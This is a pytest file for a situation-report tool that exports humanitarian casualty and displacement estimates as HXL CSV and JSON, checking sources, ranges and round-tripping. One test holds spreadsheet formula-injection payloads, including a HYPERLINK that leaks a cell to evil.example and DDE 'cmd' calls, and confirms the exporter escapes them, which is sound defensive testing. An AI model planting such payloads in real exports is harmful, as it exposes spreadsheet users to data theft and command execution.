"""Data exports: HXL CSV read back with libhxl and Python's csv module, JSON read back through the model.

Both exports must list every estimate as the file gives it, with its source, and carry no number
that is not in the file (the JSON's derived figures and changes are what the report itself shows).
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import hxl
import hxl.input
import pytest
from helpers import report_from

from sitrep.build import check_file, read_report
from sitrep.diff import compare
from sitrep.editions import own_edition
from sitrep.errors import BuildError
from sitrep.export import hxl_csv, report_json
from sitrep.model import Estimate, Report
from sitrep.view import make_view


def hxl_of(report: Report) -> str:
    return hxl_csv(report, make_view(report))


def json_of(report: Report, previous: Report | None = None) -> str:
    return report_json(report, make_view(report, previous))


ROOT = Path(__file__).resolve().parents[1]
FIRST = ROOT / "inputs" / "syria-coast-2025-03.yaml"
SECOND = ROOT / "inputs" / "syria-coast-2025-03-no2.yaml"
RANGES = Path(__file__).resolve().parent / "data" / "export" / "ranges.yaml"
EXAMPLES = [FIRST, SECOND, RANGES]

# The columns of the second example, which has killed and incidents figures at admin level 1.
SECOND_HASHTAGS = [
    "#crisis+code",
    "#country+code",
    "#meta+edition",
    "#date+edition",
    "#meta+edition+time",
    "#indicator+code",
    "#indicator+type",
    "#indicator+group",
    "#indicator+name",
    "#indicator+code+parent",
    "#adm1+name",
    "#adm1+code",
    "#adm2+name",
    "#adm2+code",
    "#affected+killed",
    "#indicator+num+incidents",
    "#indicator+value+num",
    "#indicator+min+num",
    "#indicator+max+num",
    "#meta+unit",
    "#meta+qualifier",
    "#status",
    "#meta+series",
    "#meta+role",
    "#meta+source",
    "#meta+source+via",
    "#meta+url",
    "#date+reported",
    "#description",
    "#description+withdrawn",
    "#meta+review",
]

# The columns every number is in: a single number, or the ends of a range.
VALUE, LOW, HIGH = "#indicator+value+num", "#indicator+min+num", "#indicator+max+num"


def estimates(report: Report) -> list[tuple[str, Estimate]]:
    """Every estimate with its figure id, in the order written."""
    return [(figure_id, e) for figure_id, figure in report.figures.items() for e in figure.estimates]


def hxl_dataset(text: str):
    return hxl.data(hxl.input.make_input(io.BytesIO(text.encode("utf-8"))))


def hxl_rows(text: str) -> list[dict[str, str]]:
    """The data rows as libhxl reads them, each a mapping from full hashtag (with attributes) to value."""
    dataset = hxl_dataset(text)
    tags = [column.display_tag for column in dataset.columns]
    rows = []
    for row in dataset:
        assert len(row.values) == len(tags)
        rows.append(dict(zip(tags, row.values, strict=True)))
    return rows


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# ---------------------------------------------------------------------------
# HXL CSV


@pytest.mark.parametrize("path", EXAMPLES, ids=lambda p: p.stem)
def test_libhxl_finds_the_hashtag_row_and_every_tag(path):
    text = hxl_of(read_report(path))
    headers, hashtags = csv_rows(text)[:2]
    dataset = hxl_dataset(text)
    columns = dataset.columns
    assert [column.header for column in columns] == headers
    assert all(column.tag for column in columns), [c.header for c in columns if not c.tag]
    # Each hashtag is read back whole: its tag and every attribute, in the order written.
    assert [column.display_tag for column in columns] == hashtags
    assert dataset.tags == [hashtag.split("+")[0] for hashtag in hashtags]
    assert len(set(hashtags)) == len(hashtags)


def test_columns_of_the_second_example():
    text = hxl_of(read_report(SECOND))
    columns = hxl_dataset(text).columns
    assert [column.display_tag for column in columns] == SECOND_HASHTAGS
    low = columns[SECOND_HASHTAGS.index(LOW)]
    assert (low.tag, low.attribute_list, low.header) == ("#indicator", ["min", "num"], "Range, low end")


def schema_problems(path: Path) -> list[tuple[str, str, str, str]]:
    """What libhxl's built-in schema says of the export: #date holds dates, #affected and #inneed numbers, ..."""
    problems = []
    hxl.schema(None, callback=problems.append).validate(hxl_dataset(hxl_of(read_report(path))))
    return [(p.rule.severity, p.column.display_tag, p.message, p.value) for p in problems]


@pytest.mark.parametrize("path", [FIRST, SECOND], ids=lambda p: p.stem)
def test_libhxl_built_in_schema_finds_no_problem(path):
    assert schema_problems(path) == []


def test_libhxl_built_in_schema_only_warns_of_line_breaks_kept_in_notes():
    problems = schema_problems(RANGES)
    assert [(severity, tag, message) for severity, tag, message, _ in problems] == [
        ("warning", "#description", "Found extra whitespace")
    ] * 2


@pytest.mark.parametrize("path", EXAMPLES, ids=lambda p: p.stem)
def test_one_row_per_estimate(path):
    report = read_report(path)
    rows = hxl_rows(hxl_of(report))
    assert len(rows) == len(estimates(report)) == sum(len(f.estimates) for f in report.figures.values())
    assert [row["#indicator+code"] for row in rows] == [figure_id for figure_id, _ in estimates(report)]


@pytest.mark.parametrize("path", EXAMPLES, ids=lambda p: p.stem)
def test_every_estimate_is_in_its_row_with_its_source_and_date(path):
    report = own_edition(read_report(path))  # the data are in the file's own language
    rows = hxl_rows(hxl_of(report))
    for row, (figure_id, estimate) in zip(rows, estimates(report), strict=True):
        figure = report.figures[figure_id]
        if estimate.value is not None:
            assert (row[VALUE], row[LOW], row[HIGH]) == (str(estimate.value), "", "")
        else:
            assert (row[VALUE], row[LOW], row[HIGH]) == ("", str(estimate.low), str(estimate.high))
        assert row["#meta+source"] == report.sources[estimate.source].publisher
        assert row["#meta+source+via"] == (report.sources[estimate.via].publisher if estimate.via else "")
        assert row["#date+reported"] == estimate.as_of.isoformat()
        assert row["#meta+qualifier"] == estimate.qualifier.value
        assert row["#status"] == estimate.status.value
        # libhxl reads the file with universal newlines: a note's "\r" comes back as "\n" (the csv
        # module keeps it, see the round-trip test below).
        assert row["#description"] == (estimate.note or "").replace("\r", "\n")
        assert row["#description+withdrawn"] == (estimate.withdrawn or "")
        assert row["#indicator+type"] == figure.metric.value
        assert row["#indicator+group"] == figure.group
        assert row["#indicator+code+parent"] == (figure.part_of or "")
        assert row["#crisis+code"] == report.report.crisis
        assert row["#country+code"] == report.report.country
        assert row["#meta+edition"] == str(report.report.number)
        # The edition's day and time apart: libhxl reads a day with a time as day first.
        as_of = report.report.as_of.isoformat(timespec="minutes")
        assert f"{row['#date+edition']}T{row['#meta+edition+time']}" == as_of


def test_a_withdrawn_number_says_why_and_a_share_alone_is_a_percent():
    report = report_from(
        (Path(__file__).parent / "data" / "rules" / "figure-all-withdrawn.yaml").read_text(encoding="utf-8")
        + "funding:\n  - name: Flash Appeal\n    funded: [{percent: 38, source: a, as_of: 2025-03-08}]\n"
    )
    killed, share = hxl_rows(hxl_of(report))
    assert (killed["#meta+series"], killed["#description+withdrawn"]) == (
        "withdrawn",
        "counted twice, A said on 9 March",
    )
    assert (share["#value+pct"], share["#meta+unit"], share["#description+withdrawn"]) == ("38", "percent", "")


@pytest.mark.parametrize("path", EXAMPLES, ids=lambda p: p.stem)
def test_no_number_that_is_not_in_the_file(path):
    """Every number of the long columns is a value, low or high written in the file for that row's estimate, and
    each once; a number under a figure's own hashtag is that row's value again."""
    report = read_report(path)
    written = sorted(n for _, e in estimates(report) for n in ((e.value,) if e.value is not None else (e.low, e.high)))
    rows = hxl_rows(hxl_of(report))
    exported = sorted(int(row[tag]) for row in rows for tag in (VALUE, LOW, HIGH) if row[tag])
    assert exported == written
    wide_tags = ("#affected", "#inneed", "#targeted", "#reached", "#output+num", "#indicator+num+")
    for row in rows:
        wide = [value for tag, value in row.items() if value and tag.startswith(wide_tags)]
        assert wide in ([], [row[VALUE]])
        assert not wide or row["#meta+role"] == "headline"


def test_a_range_gives_min_and_max_and_a_single_value_neither():
    report = read_report(RANGES)
    rows = {(row["#indicator+code"], row["#date+reported"]): row for row in hxl_rows(hxl_of(report))}
    low_high = rows[("displaced", "2025-03-11")]
    assert (low_high["#affected+displaced"], low_high[VALUE], low_high[LOW], low_high[HIGH]) == ("", "", "745", "1068")
    written_as_range = rows[("displaced", "2025-03-12")]  # value: 2000-3000
    assert (written_as_range[VALUE], written_as_range[LOW], written_as_range[HIGH]) == ("", "2000", "3000")
    # "at least 111" has no maximum of 111, and "up to 300" no minimum of 300.
    at_least = rows[("killed-town", "2025-03-11")]
    assert (
        at_least["#affected+killed"],
        at_least[VALUE],
        at_least[LOW],
        at_least[HIGH],
        at_least["#meta+qualifier"],
    ) == ("111", "111", "", "", "at-least")
    up_to = rows[("sheltering-airbase", "2025-03-12")]
    assert (up_to["#inneed"], up_to[VALUE], up_to[LOW], up_to[HIGH], up_to["#meta+qualifier"]) == (
        "300",
        "300",
        "",
        "",
        "up-to",
    )


def test_places_go_under_their_administrative_level():
    rows = {row["#indicator+code"]: row for row in hxl_rows(hxl_of(read_report(RANGES)))}
    places = [
        "#country+name",
        "#country+code+v_pcode",
        "#adm1+name",
        "#adm1+code",
        "#adm2+name",
        "#adm2+code",
        "#adm4+name",
        "#adm4+code",
    ]

    def filled(figure_id):
        return {tag: rows[figure_id][tag] for tag in places if rows[figure_id][tag]}

    assert filled("displaced") == {"#adm1+name": "Coast", "#adm1+code": "XX07"}
    assert filled("killed-town") == {"#adm2+name": "Town", "#adm2+code": "XX0701"}
    assert filled("sheltering-airbase") == {"#adm4+name": "Airbase"}
    assert filled("refugees-lebanon") == {"#country+name": "Lebanon", "#country+code+v_pcode": "LB"}
    assert filled("incidents") == {}
    # The report's own country stays in #country+code, for every row.
    assert {row["#country+code"] for row in rows.values()} == {"SYR"}


def test_places_in_the_second_example():
    rows = hxl_rows(hxl_of(read_report(SECOND)))
    latakia = [row for row in rows if row["#indicator+code"] == "killed-civilians-latakia"]
    places = [(row["#adm1+name"], row["#adm1+code"], row["#adm2+name"]) for row in latakia]
    assert places == [("Latakia", "SY06", "")] * 2
    total = next(row for row in rows if row["#indicator+code"] == "killed-total")
    assert (total["#adm1+name"], total["#adm2+name"]) == ("", "")


def test_url_is_the_outlets_else_the_sources():
    rows = {(row["#indicator+code"], row["#date+reported"]): row for row in hxl_rows(hxl_of(read_report(RANGES)))}
    assert rows[("displaced", "2025-03-12")]["#meta+url"] == "https://wire.example.org/story"  # via wire
    assert rows[("displaced", "2025-03-11")]["#meta+url"] == "https://agency.example.org/flash-update"  # no via
    # Through an outlet without an address: the source's own.
    assert rows[("refugees-lebanon", "2025-03-12")]["#meta+url"] == "https://agency.example.org/flash-update"
    second = {row["#indicator+code"]: row for row in hxl_rows(hxl_of(read_report(SECOND)))}
    assert second["killed-children"]["#meta+url"] == ""  # UNICEF, first-hand, no address given


def test_labels_are_those_the_report_shows():
    report = read_report(SECOND)
    view = make_view(report)
    shown = {f.id: f.label for f in view.casualties + view.displacement_figures + view.other_figures}
    rows = hxl_rows(hxl_of(report))
    assert {row["#indicator+code"]: row["#indicator+name"] for row in rows} == shown
    assert shown["killed-civilians"] == "Civilians killed"


def test_text_with_commas_quotes_and_line_breaks_round_trips_through_csv():
    report = read_report(RANGES)
    text = hxl_of(report)
    rows = csv_rows(text)
    assert len({len(row) for row in rows}) == 1
    headers, data = rows[0], rows[2:]
    by_header = [dict(zip(headers, row, strict=True)) for row in data]
    assert [row["Note"] for row in by_header] == [e.note or "" for _, e in estimates(report)]
    notes = [row["Note"] for row in by_header]
    assert 'Two counts, "rough", from\ntwo teams, one of them partial.\n' in notes
    assert "Crossed at two points,\nsome by sea." in notes
    assert by_header[1]["Source"] == 'Monitor, "Independent" Group'
    assert "Range, low end" in headers
    assert '"Monitor, ""Independent"" Group"' in text


@pytest.mark.parametrize("path", EXAMPLES, ids=lambda p: p.stem)
def test_csv_is_stable_with_newline_line_ends(path):
    report = read_report(path)
    text = hxl_of(report)
    assert text == hxl_of(read_report(path))
    assert text.endswith("\n") and not text.endswith("\n\n")
    if path != RANGES:  # no line break inside a field: one line per row
        assert "\r" not in text
        assert len(text.splitlines()) == 2 + len(estimates(report))


def test_review_marks_are_kept():
    rows = {row["#indicator+code"]: row for row in hxl_rows(hxl_of(read_report(RANGES)))}
    assert rows["killed-town"]["#meta+review"].startswith("carried over from Situation Report No. 2")
    assert rows["displaced"]["#meta+review"] == ""


LOOP = """\
report:
  title: "Test: a loop"
  crisis: test-crisis
  country: SYR
  number: 1
  as_of: 2025-03-09 18:00 +03:00
  period: {from: 2025-03-06, to: 2025-03-09}
  produced_by: Test cell
sources:
  sohr: {publisher: SOHR}
figures:
  total:
    metric: killed
    estimates: [{value: 10, source: sohr, as_of: 2025-03-08}]
  a:
    metric: killed
    part_of: b
    estimates: [{value: 5, source: sohr, as_of: 2025-03-08}]
  b:
    metric: killed
    part_of: a
    estimates: [{value: 4, source: sohr, as_of: 2025-03-08}]
narrative:
  overview: Something happened.
"""


@pytest.mark.parametrize("export", [hxl_of, json_of], ids=["csv", "json"])
def test_figures_the_report_cannot_show_are_an_error_not_left_out(export):
    """Figures in a `part_of` loop are not shown by the view; exporting without them would drop numbers."""
    with pytest.raises(BuildError) as error:
        export(report_from(LOOP))
    assert "figures a, b" in str(error.value)


# ---------------------------------------------------------------------------
# JSON


@pytest.mark.parametrize("path", EXAMPLES, ids=lambda p: p.stem)
def test_json_report_validates_back_to_an_equal_report(path):
    report = read_report(path)
    text = json_of(report)
    data = json.loads(text)
    assert list(data) == ["report", "derived"]
    assert Report.model_validate(data["report"]) == report
    assert data["report"] == report.model_dump(mode="json", by_alias=True)


def test_json_form():
    report = read_report(SECOND)
    text = json_of(report)
    assert text == json_of(read_report(SECOND))
    assert text.startswith('{\n  "report": {\n    "report": {\n      "title": ')
    assert text.endswith("}\n") and not text.endswith("\n\n")
    assert "اللاذقية" in text  # not escaped
    assert '"from": "2025-03-10"' in text  # field names as written in the file
    # The keys keep the model's order, not sorted.
    assert list(json.loads(text)["report"]["report"])[:3] == ["title", "crisis", "country"]


@pytest.mark.parametrize("path", EXAMPLES, ids=lambda p: p.stem)
def test_derived_figures_are_those_the_view_shows(path):
    report = read_report(path)
    derived = json.loads(json_of(report))["derived"]
    shown = {f.id: f for f in make_view(report).figures}
    assert list(derived["figures"]) == list(report.figures)
    for figure_id, figure in report.figures.items():
        entry, view = derived["figures"][figure_id], shown[figure_id]
        assert (entry["label"], entry["title"]) == (view.label, view.title)
        assert (entry["headline"] or {}).get("number") == (view.headline.number if view.headline else None)
        assert [s["name"] for s in entry["sources"]] == [s.source for s in view.series]
        claims = [c for s in entry["sources"] for c in (*s["current"], *s["earlier"])]
        assert sorted(i for c in claims for i in c["estimates"]) == list(range(len(figure.estimates)))
        for claim in claims:  # every number as the file gives it, qualifier kept
            [estimate, *_] = [figure.estimates[i] for i in claim["estimates"]]
            assert (claim["low"], claim["high"], claim["qualifier"], claim["status"]) == (
                *estimate.bounds,
                estimate.qualifier.value,
                estimate.status.value,
            )


def test_derived_figures_of_the_examples():
    first = json.loads(json_of(read_report(FIRST)))["derived"]["figures"]
    civilians = first["killed-civilians"]
    assert civilians["headline"] == {"kind": "single", "number": "1,068", "caption": None, "ends": None}
    [sohr] = civilians["sources"]
    assert [(c["number"], c["as_of"], c["estimates"]) for c in sohr["current"]] == [("1,068", "2025-03-09", [1])]
    assert [(c["number"], c["as_of"], c["estimates"]) for c in sohr["earlier"]] == [("745", "2025-03-08", [0])]
    assert civilians["spreads"] == []
    assert first["killed-total"]["notes"] == [
        "1,018 (SOHR, 8 March 2025) is older and smaller than its part Civilians killed: 1,068 (SOHR, 9 March 2025)."
    ]
    second = json.loads(json_of(read_report(SECOND)))["derived"]["figures"]
    civilians = second["killed-civilians"]
    assert civilians["headline"] is None  # a running count and a verified minimum: neither leads by itself
    assert [
        (s["source"], [c["number"] for c in s["current"]], c["qualifier"])
        for s in civilians["sources"]
        for c in s["current"]
    ] == [("sohr", ["1,383"], "exact"), ("ohchr", ["at least 111"], "at-least")]
    ambush = second["killed-ambush"]
    assert ambush["headline"]["number"] == "13 to at least 16"
    [spread] = ambush["spreads"]
    assert (
        [(c["source"], c["number"]) for c in spread["low"]],
        [(c["source"], c["number"]) for c in spread["high"]],
    ) == ([("bbc", "13")], [("syria-mod", "at least 16")])
    ranges = json.loads(json_of(read_report(RANGES)))["derived"]["figures"]
    assert ranges["displaced"]["headline"] is None  # an estimated range and a reported one
    assert [c["number"] for s in ranges["displaced"]["sources"] for c in s["current"]] == ["745–1,068", "2,000–3,000"]


def test_derived_changes_from_the_previous_edition():
    checked = check_file(SECOND)
    assert checked.previous is not None
    derived = json.loads(json_of(checked.report, checked.previous))["derived"]
    assert derived["changes"] == json.loads(json.dumps(compare(checked.previous, checked.report).to_json()))
    assert (derived["changes"]["from"], derived["changes"]["to"]) == (1, 2)
    civilians = [
        c for c in derived["changes"]["figures"] if (c["figure"], c["sources"]) == ("killed-civilians", ["sohr"])
    ]
    assert [(c["before"][0]["value"], c["after"][0]["value"], c["change"]) for c in civilians] == [(1068, 1383, 315)]


def test_no_previous_edition_no_changes():
    assert json.loads(json_of(read_report(SECOND)))["derived"]["changes"] is None


FORMULAS = Path(__file__).resolve().parent / "data" / "adversarial" / "formula-cells.yaml"


def test_cells_a_spreadsheet_would_run_are_written_after_an_apostrophe_and_read_back_as_written():
    report = read_report(FORMULAS)
    text = hxl_of(report)
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[2:] for cell in row]
    written = {
        '=HYPERLINK("https://evil.example/?"&A1,"SOHR")',
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "+1+1 killed",
    }
    assert {cell for cell in cells if cell.startswith("'")} == {"'" + value for value in written}
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # HXL tools read the same cells, apostrophe included, and the numbers as they are.
    data = hxl.data(hxl.input.make_input(io.BytesIO(text.encode("utf-8")))).cache()
    (row,) = list(data)
    assert row.get("#meta+source") == "'" + '=HYPERLINK("https://evil.example/?"&A1,"SOHR")'
    assert row.get("#adm1+name") == "'-2+3+cmd|' /C calc'!A0"
    assert row.get("#indicator+name") == "'+1+1 killed"
    assert (row.get("#indicator+value+num"), row.get("#affected+killed")) == ("745", "745")
    assert str(data.max("#affected+killed")) == "745"
    assert "".join(data.gen_csv()).replace("\r\n", "\n") == text  # and write them back unchanged (in CRLF lines)


def test_no_number_in_the_examples_begins_like_a_formula():
    # Counts, amounts and shares are zero or more: the apostrophe never touches a number.
    for path in EXAMPLES:
        rows = list(csv.reader(io.StringIO(hxl_of(read_report(path)))))
        hashtags = rows[1]
        for row in rows[2:]:
            for hashtag, cell in zip(hashtags, row, strict=True):
                if "+num" in hashtag or hashtag.startswith(("#affected", "#value", "#inneed", "#targeted", "#reached")):
                    assert cell == "" or re.fullmatch(r"\d+(\.\d+)?", cell), (hashtag, cell)
